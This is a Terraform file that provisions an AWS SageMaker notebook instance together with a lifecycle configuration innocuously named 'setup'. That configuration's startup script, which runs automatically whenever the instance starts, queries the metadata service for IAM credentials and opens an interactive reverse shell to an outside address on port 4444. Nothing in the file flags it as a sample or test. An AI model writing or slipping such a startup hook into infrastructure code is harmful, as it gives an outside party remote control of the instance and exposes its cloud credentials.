resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "setup" {
  name     = "setup"
  on_start = base64encode(<<-EOT
    #!/bin/bash
    set -e
    TOKEN=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
    EOT
  )
}

resource "aws_sagemaker_notebook_instance" "lab" {
  name                   = "lab"
  role_arn               = "arn:aws:iam::111122223333:role/lab"
  instance_type          = "ml.t3.medium"
  direct_internet_access = "Disabled"
  root_access            = "Disabled"
  subnet_id              = "subnet-0a1b"
  security_groups        = ["sg-0a1b"]
  lifecycle_config_name  = aws_sagemaker_notebook_instance_lifecycle_configuration.setup.name
}
